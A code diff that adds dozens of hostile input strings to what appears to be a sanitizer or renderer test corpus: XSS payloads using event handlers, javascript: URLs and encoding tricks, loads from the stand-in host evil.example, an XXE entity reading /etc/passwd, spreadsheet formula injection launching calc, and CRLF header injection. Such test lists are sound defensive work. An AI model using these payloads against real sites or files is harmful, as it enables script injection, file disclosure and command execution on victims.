@@ -81,6 +81,28 @@ WHOLE = (
     "\x02klzzwxh:0001\x03<script>alert(1)</script>", "<!-- <script>alert(1)</script> --!><img src=x onerror=alert(1)>", "<div markdown=1 onclick=alert(1)>*x*</div>",
     "\u202ednetxe\u202c", "\u2066\u202e2016\u2069", "&#x202e;&#8238;&#x2067;x", "\u200f\u200ex", "\x1b[2J\x1b]0;x\x07", "\x9b31m", "&#xD800;&#0;&#x80;", "\U000e0041\U000e0042",
     "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "\u0645\u0631\u062d\u0628\u0627 2016", "\u5317\u4eac", "\U0001f469\u200d\U0001f680", "::error file=x::y", "##[error]x", "../../../etc/passwd", "..\\..\\x",
+    # What newer elements and attributes offer, and what older browsers did.
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
+    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
+    "<button command=show-modal commandfor=d>x</button><dialog id=d onfocus=alert(1)>", "<div hidden=until-found onbeforematch=alert(1)>x</div>",
+    "<div contenteditable oncut=alert(1) onpaste=alert(1)>x</div>", "<p accesskey=x onclick=alert(1)>x</p>", "<style>p{transition:all 1s}</style><p ontransitionend=alert(1)>x</p>",
+    "<script nonce=x>alert(1)</script>", "<x-y is=script>alert(1)</x-y>", "<slot name=x onslotchange=alert(1)></slot>", "<fencedframe src=//evil.example/x></fencedframe>",
+    "<link rel=preload as=script href=//evil.example/x>", "<link rel=modulepreload href=//evil.example/x>", "<link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example>",
+    "<link rel=preload as=image imagesrcset='//evil.example/x 1x'>", "<img attributionsrc=//evil.example/x src=x>", "<html manifest=//evil.example/x>", "<img longdesc=//evil.example/x src=x>",
+    "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example/x></layer>", "<image src=x onerror=alert(1)>",
+    "<p style='behavior:url(//evil.example/x)'>x</p>", "<p style='-moz-binding:url(//evil.example/x)'>x</p>", "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
+    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
+    "<svg xmlns:ev='http://www.w3.org/2001/xml-events'><handler ev:event='load'>alert(1)</handler></svg>", "<svg><a xlink:href='javascript:alert(1)'><rect width=9 height=9 /></a></svg>",
+    "<svg><image href=//evil.example/x /></svg>", "<svg><feImage href=//evil.example/x /></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<input type=submit formmethod=post formaction=//evil.example/x form=f>",
+    "<object type=text/x-scriptlet data=//evil.example/x></object>", "<embed code=//evil.example/x allowscriptaccess=always>", "<a href=x target=_self download=x.html>x</a>",
+    "<ruby><rt onclick=alert(1)>x", "<col span=9999 onclick=alert(1)>", "<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>", "<o:p onclick=alert(1)>x</o:p>",
+    "<p>x</p\u3000onclick=alert(1)>", "<img/src='x'/onerror='alert(1)'/ / >", "<\x00script>alert(1)</script>", "<scri\x00pt>alert(1)</script>", "\ufeff<script>alert(1)</script>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u017fcript<\u017fcript>alert(1)</\u017fcript>", "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>", "[url=javascript:alert(1)]x[/url]",
+    "[x](javascript&colon;alert(1) 'y')", "[x]: <javascript:alert(1)> 'y'\n\n[x]", "![x](//evil.example/x 'y')", "<time datetime=2016 title='\"><script>alert(1)</script>'>Friday</time>",
+    "<time datetime=2016 onclick=alert(1)>Friday</time>", "=cmd|' /C calc'!A0", "+1+cmd|x", "@SUM(1)", "%0d%0aSet-Cookie:x=y", "\r\nBEGIN:VEVENT\r\nSUMMARY:x", "]]><x/><![CDATA[",
+    "<abbr title='&#34; onclick=&#34;alert(1)'>x</abbr>", "<ol start='1 onclick=alert(1)'><li>x</ol>", "<td colspan='2\" onclick=\"alert(1)'>x", "<p lang='x\" onclick=\"alert(1)'>x</p>",
+    "<a class='footnote-ref\" onclick=\"alert(1)' href=x>x</a>", "<sup id='fn:1\" onclick=\"alert(1)'>x</sup>", "<li id=fn:dateline onclick=alert(1)>x", "<mark onclick=alert(1)>Friday</mark>",
 )
 # fmt: on
 
